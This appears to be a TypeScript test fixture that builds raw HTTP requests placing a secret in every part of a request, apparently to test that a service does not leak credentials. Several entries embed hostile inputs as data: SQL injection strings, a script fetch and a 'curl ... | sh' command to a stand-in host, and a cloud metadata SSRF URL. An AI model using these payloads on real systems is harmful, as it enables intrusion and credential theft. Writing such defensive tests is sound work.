type Make = (secret: string, path: string) => string;

const host = 'Host: api.example.com\r\n';
const get =
  (fields: (secret: string) => string): Make =>
  (secret, path) =>
    `GET ${path} HTTP/1.1\r\n${host}${fields(secret)}\r\n`;
const url =
  (target: (path: string, secret: string) => string): Make =>
  (secret, path) =>
    `GET ${target(path, secret)} HTTP/1.1\r\n${host}\r\n`;
const post =
  (type: string, body: (secret: string) => string): Make =>
  (secret, path) => {
    const text = body(secret);
    return `POST ${path} HTTP/1.1\r\n${host}Content-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(text)}\r\n\r\n${text}`;
  };
const json = (body: (secret: string) => unknown): Make =>
  post('application/json', (secret) => JSON.stringify(body(secret)));
const multipart = (part: (secret: string) => string): Make =>
  post('multipart/form-data; boundary=B', (secret) => `--B\r\n${part(secret)}\r\n--B--\r\n`);
const basic = (text: string): string => Buffer.from(text).toString('base64');

/** Every place of a request in which a secret may stand, and the bytes of a request that has one there. */
export const places: Readonly<Record<string, Make>> = {
  'path, first part': url((_, secret) => `/${secret}`),
  'path, last part': url((path, secret) => `${path}/${secret}`),
  'path, encoded': url((path, secret) => `${path}/%2e%2e/${secret}`),
  'path parameter of the contract': url((_, secret) => `/things/${secret}`),
  'path parameter of a number': url((_, secret) => `/numbers/${secret}`),
  'query value': url((path, secret) => `${path}?q=${secret}`),
  'query value of a secret name': url((path, secret) => `${path}?api_key=${secret}`),
  'query value of the contract': url((path, secret) => `${path}?limit=${secret}`),
  'query name': url((path, secret) => `${path}?${secret}=1`),
  'query twice': url((path, secret) => `${path}?id=1&id=${secret}`),
  'user information of the target': url((path, secret) => `http://ada:${secret}@api.example.com${path}`),
  fragment: url((path, secret) => `${path}#${secret}`),
  method: (secret, path) => `${secret} ${path} HTTP/1.1\r\n${host}\r\n`,
  version: (secret, path) => `GET ${path} HTTP/${secret}\r\n${host}\r\n`,
  host: (secret, path) => `GET ${path} HTTP/1.1\r\nHost: ${secret}.example.com\r\n\r\n`,
  'bearer token': get((secret) => `Authorization: Bearer ${secret}\r\n`),
  'DPoP proof': get((secret) => `Authorization: DPoP x\r\nDPoP: ${secret}\r\n`),
  'basic password': get((secret) => `Authorization: Basic ${basic(`ada:${secret}`)}\r\n`),
  'basic name': get((secret) => `Authorization: Basic ${basic(`${secret}:pw`)}\r\n`),
  'authorization scheme': get((secret) => `Authorization: ${secret} x\r\n`),
  'API key': get((secret) => `X-API-Key: ${secret}\r\n`),
  'cookie value': get((secret) => `Cookie: theme=dark; session=${secret}\r\n`),
  'cookie name': get((secret) => `Cookie: ${secret}=1\r\n`),
  'header value': get((secret) => `X-Vendor: ${secret}\r\n`),
  'header name': get((secret) => `X-${secret}: 1\r\n`),
  'proxy authorization': get((secret) => `Proxy-Authorization: Bearer ${secret}\r\n`),
  referer: get((secret) => `Referer: https://app.example.com/reset?token=${secret}\r\n`),
  'user agent': get((secret) => `User-Agent: tool ${secret}\r\n`),
  origin: get((secret) => `Origin: https://${secret}.example.com\r\n`),
  'request id': get((secret) => `X-Request-Id: ${secret}\r\n`),
  trace: get((secret) => `traceparent: 00-${secret}-01\r\ntracestate: a=${secret}\r\n`),
  'forwarded for': get((secret) => `X-Forwarded-For: ${secret}\r\nForwarded: for=${secret}\r\n`),
  'range and conditions': get((secret) => `If-None-Match: "${secret}"\r\nRange: bytes=${secret}\r\n`),
  'method override': get((secret) => `X-HTTP-Method-Override: ${secret}\r\n`),
  'content type': post('application/x-SECRET', (secret) => secret),
  'content type parameter': (secret, path) =>
    `POST ${path} HTTP/1.1\r\n${host}Content-Type: application/json; token=${secret}\r\nContent-Length: 2\r\n\r\n{}`,
  'JSON value': json((secret) => ({ user: 'ada', password: secret })),
  'JSON value of a type that is wrong': json((secret) => ({ count: secret })),
  'JSON value beside a pattern': json((secret) => ({ code: `${secret}!` })),
  'JSON value outside an enum': json((secret) => ({ kind: secret })),
  'JSON value, deep': json((secret) => ({ a: [{ b: { note: secret } }] })),
  'JSON name': json((secret) => ({ [secret]: 1 })),
  'JSON that is broken': post('application/json', (secret) => `{"password":"${secret}",,}`),
  'JSON with a name twice': post('application/json', (secret) => `{"password":"a","password":"${secret}"}`),
  'beside an injection': json((secret) => ({ password: secret, q: "' or 1=1 --" })),
  'name of what is an injection': json((secret) => ({ [secret]: "' or 1=1 --" })),
  'query name of what is an injection': url((path, secret) => `${path}?${secret}=%27%20or%201=1%20--`),
  'inside a script': url((path, secret) => `${path}?q=%3Cscript%3Efetch(%27//e.example/${secret}%27)%3C/script%3E`),
  'inside a command': json((secret) => ({ q: `; curl -u ada:${secret} http://e.example | sh` })),
  'inside an address': json((secret) => ({ q: `http://ada:${secret}@169.254.169.254/latest/meta-data` })),
  'inside an injection': json((secret) => ({ q: `' union select '${secret}' from users --` })),
  'form value': post('application/x-www-form-urlencoded', (secret) => `user=ada&password=${secret}`),
  'form name': post('application/x-www-form-urlencoded', (secret) => `${secret}=1`),
  'multipart value': multipart((secret) => `Content-Disposition: form-data; name="password"\r\n\r\n${secret}`),
  'multipart name': multipart((secret) => `Content-Disposition: form-data; name="${secret}"\r\n\r\nx`),
  'file name': multipart((secret) => `Content-Disposition: form-data; name="f"; filename="${secret}.txt"\r\n\r\nx`),
  'multipart type': multipart(
    (secret) => `Content-Disposition: form-data; name="f"; filename="a"\r\nContent-Type: text/${secret}\r\n\r\nx`,
  ),
  'text body': post('text/plain', (secret) => secret),
  'XML text': post('application/xml', (secret) => `<login><password>${secret}</password></login>`),
  'XML entity': post('application/xml', (secret) => `<!DOCTYPE x [<!ENTITY e "${secret}">]><x>&e;</x>`),
  'GraphQL argument': json((secret) => ({ query: `mutation { login(password: "${secret}") { id } }` })),
  'GraphQL variable': json((secret) => ({ query: 'query($p: String) { a(p: $p) }', variables: { p: secret } })),
  'chunk extension': (secret, path) =>
    `POST ${path} HTTP/1.1\r\n${host}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2;t=${secret}\r\n{}\r\n0\r\n\r\n`,
  trailer: (secret, path) =>
    `POST ${path} HTTP/1.1\r\n${host}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\nX-Token: ${secret}\r\n\r\n`,
  'head that is malformed': get((secret) => `X-API-Key: ${secret}\r\nBad Header: x\r\n`),
  'head that is too large': get((secret) => `X-API-Key: ${secret}\r\nX-Pad: ${'a'.repeat(70_000)}\r\n`),
  'upload that ends early': (secret, path) =>
    `POST ${path} HTTP/1.1\r\n${host}Content-Type: application/json\r\nContent-Length: 5000\r\n\r\n{"password":"${secret}"`,
  'no HTTP at all': (secret) => `\x16\x03\x01${secret}\r\n\r\n`,
  upgrade: get(
    (secret) =>
      `Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: ${secret}\r\n`,
  ),
  'upgrade to something else': get((secret) => `Connection: Upgrade\r\nUpgrade: ${secret}\r\n`),
};

/** Where they are sent: served, refused for want of a credential, judged without effect, unknown, another method. */
export const paths = ['/open', '/guarded', '/watched', '/nowhere', '/numbers/7'] as const;
